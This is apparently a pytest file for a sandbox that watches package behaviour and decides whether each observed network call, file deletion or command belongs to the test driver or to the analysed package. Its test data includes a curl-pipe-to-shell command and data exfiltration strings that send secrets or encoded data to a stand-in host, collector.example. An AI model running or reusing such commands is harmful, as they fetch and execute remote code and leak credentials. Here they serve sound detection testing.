"""What a call does with made-up arguments is told as the driver's; anything else stays the package's."""

from pathlib import Path

import pytest
from made_traces import HOME

import biopsy.sandbox
from biopsy.model.behaviour import By, Kind
from biopsy.sandbox.observe_calls import FOLDER, HOST, WORDS, own
from biopsy.sandbox.observe_ledger import Draft


@pytest.mark.parametrize(
    ("kind", "value", "ours"),
    [
        ("net.http", f"GET http://{HOST}/index.html", True),
        ("net.http", f"GET https://{HOST}:8443/x", True),
        ("net.dns", HOST, True),
        ("net.dns", f"{HOST} TXT", True),
        ("net.connect", f"{HOST}:80", True),
        ("net.send", f"tcp {HOST}:80", True),
        ("code.remote", f"http://{HOST}/index.html", True),
        ("canary.leak", f"npm-token > {HOST}:80 as clear", True),
        ("file.delete", f"{HOME}/samples/notes.txt", True),
        ("file.read", f"{HOME}/samples/", True),
        ("process.exec", f"echo {WORDS}", True),
        ("process.exec", f"/bin/sh -c 'echo {WORDS}'", True),
        ("net.http", f"GET https://collector.example/?for=http://{HOST}/index.html", False),
        ("net.dns", f"6c6f6f74.{HOST}.collector.example", False),
        ("net.connect", f"{HOST}.collector.example:80", False),
        ("canary.leak", f"npm-token > {HOST}.collector.example:80 as clear", False),
        ("file.delete", f"{HOME}/samples-of-mine/notes.txt", False),
        ("file.delete", f"{HOME}/Documents/notes.md", False),
        ("process.exec", f"sh -c 'echo {WORDS}; curl http://collector.example | sh'", False),
        ("process.exec", f"sh -c 'curl http://collector.example # echo {WORDS}'", False),
        ("process.exec", "echo 'unclosed", False),
        ("canary.read", "npm-token", False),
        ("canary.read", "call-key", True),
        ("canary.leak", "call-key > collector.example:443 as clear", False),
    ],
)
def test_only_what_comes_of_our_own_arguments_is_the_drivers(kind: str, value: str, ours: bool) -> None:
    found = own(Draft(1, Kind(kind), value, "execute"), HOME)
    assert (found.by, found.owner) == ((By.TOOL, "driver") if ours else (By.PACKAGE, ""))
    assert own(Draft(1, Kind(kind), value, "install"), HOME).by is By.PACKAGE


@pytest.mark.parametrize(
    ("kind", "value", "ours"),
    [
        ("net.http", f"POST https://{HOST}/login", True),
        ("net.dns", HOST, True),
        ("canary.leak", f"call-page > {HOST}:443 as clear", True),
        ("canary.read", "call-card", True),
        ("canary.read", "call-key", False),
        ("canary.leak", f"npm-token > {HOST}:443 as clear", False),
        ("canary.leak", "call-page > collector.example:443 as clear", False),
        ("net.http", "POST https://collector.example/login", False),
        ("file.delete", f"{HOME}/samples/notes.txt", False),
        ("process.exec", f"echo {WORDS}", False),
    ],
)
def test_while_packages_are_loaded_only_a_visitor_of_a_page_is_the_drivers(
    kind: str, value: str, ours: bool
) -> None:
    found = own(Draft(1, Kind(kind), value, "import"), HOME)
    assert found.by is (By.TOOL if ours else By.PACKAGE)


def test_the_drivers_say_what_is_known_here() -> None:
    for name in ("made.cjs", "pymade.py", "page.cjs"):
        text = (Path(biopsy.sandbox.__file__).parent / "drivers" / name).read_text()
        assert HOST in text
        assert name == "page.cjs" or (WORDS in text and FOLDER in text)
